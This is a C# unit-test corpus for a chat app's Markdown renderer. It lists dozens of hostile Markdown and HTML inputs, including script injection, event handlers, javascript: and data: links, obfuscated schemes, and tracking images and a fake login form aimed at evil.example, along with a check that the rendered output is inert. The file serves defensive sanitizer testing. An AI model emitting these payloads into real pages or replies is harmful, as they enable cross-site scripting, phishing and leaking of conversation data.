using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace Sambung.UnitTests.Web;

// Markdown a hostile model (or user) might write, and what "inert" means for the HTML made from it. The payloads are
// separated by a "%%%%" paragraph, so streamed as one reply each is a block of its own. The browser tests stream this
// same document: they read the text between the two """ lines of this file, so keep those at the start of their
// lines, and keep the payloads that never end (fences, comments) at the end.
public static class RenderingHostileCorpus
{
    public const string Separator = "\n\n%%%%\n\n";

    public const string Document = """
<script>alert(1)</script> **after the script**

%%%%

<SCRIPT SRC=https://evil.example/x.js></SCRIPT>

%%%%

<img src=x onerror="document.title='pwned'">

%%%%

<img src=x onerror=alert(1)//

%%%%

<svg onload=alert(1)><circle r=9 /></svg>

%%%%

<svg><script>alert(1)</script></svg>

%%%%

<math><mi xlink:href="javascript:alert(1)">x</mi></math>

%%%%

<iframe src="https://evil.example/frame"></iframe>

%%%%

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/embed">

%%%%

<div onclick="alert(1)" style="position:fixed;inset:0">click anywhere</div>

%%%%

<details open ontoggle=alert(1)><summary>x</summary></details>

%%%%

<div>
<form action="https://evil.example/login"><input name="password"><button>Sign in again</button></form>
</div>

%%%%

<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">

%%%%

<style>body { background: url(https://evil.example/css-beacon) }</style><link rel="stylesheet" href="https://evil.example/x.css">

%%%%

<div style="background:url(javascript:alert(1))">x</div> <p style="width:expression(alert(1))">y</p>

%%%%

<div hx-get="/account/sessions" hx-trigger="load" data-hx-post="/x" hx-on:click="alert(1)">htmx</div>

%%%%

<a href="javascript:alert(1)">raw link</a>

%%%%

[inline](javascript:alert(1)) [mixed case](JaVaScRiPt:alert(1)) [spaced](<javascript:alert(1)>)

%%%%

[entity](java&#115;cript:alert(1)) [hex entity](&#x6A;avascript:alert(1)) [tab entity](jav&#x09;ascript:alert(1))

%%%%

[zero width](java​script:alert(1)) [newline entity](java&#10;script:alert(1))

%%%%

[vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

%%%%

![js image](javascript:alert(1)) ![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

%%%%

[reference][js] and [another][data] and ![beacon by reference][beacon]

[js]: javascript:alert(1)
[data]: data:text/html,<script>alert(1)</script>
[beacon]: https://evil.example/ref-beacon.png?data=secret

%%%%

<javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,hi> javascript:alert(1) www.evil.example/page

%%%%

![](https://evil.example/beacon?data=the+conversation) ![tracking](//evil.example/pixel.gif)

%%%%

![slashes](/\evil.example/p.png) ![titled](http://evil.example/p.png "title") ![spaced]( https://evil.example/s.png )

%%%%

[![linked image](https://evil.example/i.png)](https://evil.example/)

%%%%

[title trick](https://example.org "a" onmouseover="alert(1)") [quote trick](https://example.org "\" onmouseover=\"alert(1)")

%%%%

[<img src=x onerror=alert(1)>](https://example.org)

%%%%

| cell |
|------|
| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |

%%%%

# Heading {#composer-version onclick="alert(1)" style="color:red"}

Paragraph {.skip-link #chat-status}

:::visually-hidden
hidden
:::

%%%%

Footnote[^1].

[^1]: [x](javascript:alert(1))

%%%%

&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;

%%%%

<scr​ipt>alert(1)</scr​ipt> ＜script＞alert(1)＜/script＞ <sc&#x72;ipt>alert(1)</script>

%%%%

$\href{javascript:alert(1)}{x}$ and $\htmlId{composer}{y}$

$$
\url{javascript:alert(1)}
$$

%%%%

```mermaid
graph TD
  A["<img src=x onerror=alert(1)>"] --> B
  click A "javascript:alert(1)"
```

%%%%

```mermaid
%%{init: {"securityLevel": "loose"}}%%
graph TD
  C --> D
  click C call alert(1)
```

%%%%

```html
<script>alert(1)</script>
```

%%%%

<!-- an HTML comment that never ends <script>alert(1)</script>

%%%%

```html
<script>alert('unterminated fence')</script>
""";

    public static IEnumerable<string> Payloads => Document.Split(Separator);

    public static TheoryData<string> EachPayload => new(Payloads);

    // Everything a browser could act on: elements that run, load or submit; handlers; styles; addresses with a
    // scheme other than http(s)/mailto; images from elsewhere; ids and attributes htmx would act on.
    public static void AssertInert(string html, string? allowedId = null)
    {
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");
        var dangerous = document.QuerySelectorAll("script, iframe, frame, object, embed, svg, math, style, link, meta, base, form, button, textarea, select, details, template");
        Assert.True(dangerous.Length == 0, $"<{dangerous.FirstOrDefault()?.LocalName}> in {html}");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                var name = attribute.Name;
                var context = $"{name}=\"{attribute.Value}\" on <{element.LocalName}> in {html}";
                Assert.False(name.StartsWith("on", StringComparison.OrdinalIgnoreCase), context);
                Assert.NotEqual("style", name);
                var ownTail = allowedId is not null && element.Id == allowedId;
                Assert.False(name.Contains("hx-", StringComparison.OrdinalIgnoreCase) && !(ownTail && name == "hx-swap-oob"), context);
                Assert.False(name.StartsWith("data-") && name is not ("data-copy" or "data-copied"), context);
                Assert.False(name == "id" && !ownTail, context);
                var squeezed = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
                foreach (var scheme in new[] { "javascript:", "data:", "vbscript:" })
                    Assert.False(squeezed.Contains(scheme, StringComparison.OrdinalIgnoreCase), context);
            }
            if (element.LocalName == "img") AssertSameOrigin(element, html);
            if (element.LocalName == "input")
                Assert.True(element.GetAttribute("type") == "checkbox" && element.HasAttribute("disabled"), $"<input> in {html}");
        }
    }

    private static void AssertSameOrigin(IElement image, string html)
    {
        var src = image.GetAttribute("src") ?? "";
        var resolved = new Uri(new Uri("https://sambung.test/c/1"), src.Replace('\\', '/'));
        Assert.True(resolved.Host == "sambung.test" && !src.StartsWith("//") && !src.Contains(':'), $"<img src=\"{src}\"> in {html}");
    }
}
